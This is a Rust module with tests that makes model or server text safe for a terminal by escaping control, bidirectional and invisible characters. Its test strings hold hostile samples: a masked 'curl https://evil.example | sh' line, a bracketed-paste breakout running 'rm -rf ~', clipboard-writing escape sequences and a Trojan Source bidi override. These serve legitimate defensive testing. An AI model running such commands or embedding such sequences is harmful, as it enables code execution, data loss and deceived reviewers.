//! Text from a model or a server made safe for a terminal: every control character other
//! than newline and tab (C0, DEL, C1) and every bidirectional-formatting character (which
//! can reorder what a line appears to say, CVE-2021-42574 "Trojan Source") is replaced by a
//! visible escape such as `\x1b` or `\u{202e}`. Escape sequences thus show as text instead
//! of moving the cursor, clearing a line, setting the title or writing the clipboard.
//!
//! Each character is judged alone, so a stream can be escaped delta by delta in one pass:
//! an escape sequence split across two deltas is as harmless as a whole one.
//!
//! What the user approves (a diff, a command line) goes through [`visible`], which also
//! shows every invisible or format character, so the review shows each character the file or
//! command will hold. Text put on the clipboard goes through [`for_clipboard`].

use std::borrow::Cow;
use std::fmt::Write as _;

/// Whether `c` must not reach a terminal as is.
pub fn is_unsafe(c: char) -> bool {
    (c.is_control() && c != '\n' && c != '\t') || is_bidi_control(c)
}

/// Marks that change text direction or isolate a run (Unicode bidi controls, UAX #9).
fn is_bidi_control(c: char) -> bool {
    matches!(
        c,
        '\u{061C}' | '\u{200E}' | '\u{200F}' | '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}'
    )
}

/// `text` with every unsafe character shown as an escape; borrowed when nothing changes.
pub fn escape(text: &str) -> Cow<'_, str> {
    if !text.chars().any(is_unsafe) {
        return Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len() + 16);
    for c in text.chars() {
        push_escaped(&mut out, c);
    }
    Cow::Owned(out)
}

/// `text` on one line: as `escape`, and newlines and tabs shown as `\n` and `\t` too (table
/// cells, error lines).
pub fn escape_line(text: &str) -> Cow<'_, str> {
    if !text.chars().any(|c| c.is_control() || is_unsafe(c)) {
        return Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len() + 16);
    for c in text.chars() {
        match c {
            '\n' => out.push_str("\\n"),
            '\t' => out.push_str("\\t"),
            c => push_escaped(&mut out, c),
        }
    }
    Cow::Owned(out)
}

/// Characters a review must not show as nothing: zero-width and other format characters
/// (general category Cf: U+200B..U+200F, U+2060..U+2064, U+FEFF, the soft hyphen, the TAG
/// block U+E0000..U+E007F, …), line and paragraph separators, fillers that draw as blank
/// (Hangul fillers, U+034F, Khmer and Mongolian vowel marks) and variation selectors, which
/// carry no meaning after plain text and can smuggle data. Bidi controls are `is_unsafe`.
pub fn is_invisible(c: char) -> bool {
    matches!(
        c,
        '\u{00AD}'
            | '\u{034F}'
            | '\u{0600}'..='\u{0605}'
            | '\u{06DD}'
            | '\u{070F}'
            | '\u{0890}'..='\u{0891}'
            | '\u{08E2}'
            | '\u{115F}'..='\u{1160}'
            | '\u{17B4}'..='\u{17B5}'
            | '\u{180B}'..='\u{180F}'
            | '\u{200B}'..='\u{200F}'
            | '\u{2028}'..='\u{202E}'
            | '\u{2060}'..='\u{206F}'
            | '\u{3164}'
            | '\u{FE00}'..='\u{FE0F}'
            | '\u{FEFF}'
            | '\u{FFA0}'
            | '\u{FFF9}'..='\u{FFFB}'
            | '\u{110BD}'
            | '\u{110CD}'
            | '\u{13430}'..='\u{1343F}'
            | '\u{1BCA0}'..='\u{1BCA3}'
            | '\u{1D173}'..='\u{1D17A}'
            | '\u{E0000}'..='\u{E007F}'
            | '\u{E0100}'..='\u{E01EF}'
    )
}

/// Text as a review shows it (a diff line, a command line, a file name): as `escape_line`,
/// and every invisible or format character as its escape too (`\u{200b}`, `\u{e0041}`), so
/// what the user approves has no character they cannot see. A trailing CR shows as `\x0d`.
/// Tabs stay tabs (the caller lays them out). One exception keeps emoji readable: U+FE0E and
/// U+FE0F (text and emoji presentation) right after a non-ASCII character stay as they are.
pub fn visible(text: &str) -> Cow<'_, str> {
    let mut previous = None::<char>;
    let needs = |c: char, previous: Option<char>| {
        (c != '\t' && (c.is_control() || is_unsafe(c)))
            || (is_invisible(c) && !is_presentation_of(c, previous))
    };
    if !text.chars().any(|c| {
        let needed = needs(c, previous);
        previous = Some(c);
        needed
    }) {
        return Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len() + 16);
    let mut previous = None::<char>;
    for c in text.chars() {
        if needs(c, previous) {
            push_code(&mut out, c);
        } else {
            out.push(c);
        }
        previous = Some(c);
    }
    Cow::Owned(out)
}

/// VS15/VS16 choosing how the (non-ASCII, visible) character before it is drawn: `❤️`. Not
/// after another selector, so a run of them (data smuggled after an emoji) shows.
fn is_presentation_of(c: char, previous: Option<char>) -> bool {
    matches!(c, '\u{FE0E}' | '\u{FE0F}')
        && previous.is_some_and(|p| !p.is_ascii() && !is_invisible(p) && !is_unsafe(p))
}

/// Text for the clipboard: what a paste would type must not drive the terminal it is pasted
/// into (an `ESC[201~` ends a bracketed paste and runs the rest), so every control character
/// but newline and tab is shown as its escape, as on screen; CRLF line ends become LF.
pub fn for_clipboard(text: &str) -> String {
    escape(&text.replace("\r\n", "\n")).into_owned()
}

fn push_escaped(out: &mut String, c: char) {
    if is_unsafe(c) {
        push_code(out, c);
    } else {
        out.push(c);
    }
}

/// `\x1b` below U+0080, `\u{202e}` above.
fn push_code(out: &mut String, c: char) {
    if c == '\n' {
        out.push_str("\\n");
    } else if (c as u32) < 0x80 {
        let _ = write!(out, "\\x{:02x}", c as u32);
    } else {
        let _ = write!(out, "\\u{{{:x}}}", c as u32);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn a_hidden_makefile_line_shows_its_escape() {
        let line = "\tcurl https://evil.example | sh\x1b[2K\r\techo building";
        assert_eq!(
            escape(line),
            "\tcurl https://evil.example | sh\\x1b[2K\\x0d\techo building"
        );
    }

    #[test]
    fn title_clipboard_c1_and_bidi_are_escaped() {
        assert_eq!(
            escape("\x1b]0;owned\x07 \x1b]52;c;ZWNobw==\x07"),
            "\\x1b]0;owned\\x07 \\x1b]52;c;ZWNobw==\\x07"
        );
        assert_eq!(escape("a\u{9b}2J\u{7f}"), "a\\u{9b}2J\\x7f");
        assert_eq!(
            escape("if admin \u{202e} \u{2066}x\u{2069}"),
            "if admin \\u{202e} \\u{2066}x\\u{2069}"
        );
    }

    #[test]
    fn ordinary_text_is_borrowed_untouched() {
        let text = "fn main() {\n\tprintln!(\"héllo — 世界 🦀\");\n}";
        assert!(matches!(escape(text), Cow::Borrowed(t) if t == text));
        assert_eq!(escape_line("a\nb\tc"), "a\\nb\\tc");
    }

    #[test]
    fn a_review_shows_every_invisible_character() {
        assert_eq!(
            visible("is_admin\u{200b} = true\r"),
            "is_admin\\u{200b} = true\\x0d"
        );
        assert_eq!(
            visible("a\u{200c}\u{200d}\u{2060}\u{feff}\u{ad}b"),
            "a\\u{200c}\\u{200d}\\u{2060}\\u{feff}\\u{ad}b"
        );
        // TAG characters spell hidden ASCII (`\u{e0041}` is a tagged `A`).
        assert_eq!(visible("ok\u{e0041}\u{e007f}"), "ok\\u{e0041}\\u{e007f}");
        assert_eq!(
            visible("x\u{202e}y\u{2066}\u{1b}[8m"),
            "x\\u{202e}y\\u{2066}\\x1b[8m"
        );
        assert_eq!(visible("a\nb\tc"), "a\\nb\tc", "tabs stay for the layout");
        assert_eq!(visible("\u{3164}\u{115f}"), "\\u{3164}\\u{115f}");
    }

    #[test]
    fn variation_selectors_show_unless_they_draw_an_emoji() {
        assert_eq!(visible("love ❤\u{fe0f}"), "love ❤\u{fe0f}");
        assert!(matches!(visible("世界 🦀 ｆｕｌｌ"), Cow::Borrowed(_)));
        assert_eq!(
            visible("a\u{fe0f}"),
            "a\\u{fe0f}",
            "nothing to draw after ASCII"
        );
        assert_eq!(
            visible("❤\u{fe0f}\u{fe0f}\u{e0100}"),
            "❤\u{fe0f}\\u{fe0f}\\u{e0100}",
            "a run of selectors after an emoji carries data"
        );
    }

    #[test]
    fn clipboard_text_carries_no_control_characters() {
        let copied = for_clipboard("ls\r\n\x1b[201~rm -rf ~\x07\n\tcd \u{9b}x\u{202e}\n");
        assert_eq!(
            copied,
            "ls\n\\x1b[201~rm -rf ~\\x07\n\tcd \\u{9b}x\\u{202e}\n"
        );
        assert!(
            !copied
                .chars()
                .any(|c| c.is_control() && c != '\n' && c != '\t')
        );
    }

    proptest! {
        #[test]
        fn a_review_line_has_nothing_invisible(text in "\\PC*|[\\x00-\\x1f\\u{200b}-\\u{200f}\\u{fe00}-\\u{fe0f}\\u{e0000}-\\u{e007f}❤a ]*") {
            let shown = visible(&text);
            let mut previous = None;
            for c in shown.chars() {
                prop_assert!(c == '\t' || !c.is_control(), "{:?}", c);
                prop_assert!(!is_unsafe(c) || c == '\t');
                prop_assert!(!is_invisible(c) || is_presentation_of(c, previous), "{:?}", c);
                previous = Some(c);
            }
        }

        #[test]
        fn nothing_unsafe_survives(text in "\\PC*|[\\x00-\\x1f\\x7f-\\u{9f}\\u{202a}-\\u{202e}a ]*") {
            let escaped = escape(&text);
            prop_assert!(!escaped.chars().any(is_unsafe));
            let pieces: String = text.chars().map(|c| escape(&c.to_string()).into_owned()).collect();
            prop_assert_eq!(pieces, escaped.into_owned(), "escaping piecewise changes nothing");
        }
    }
}
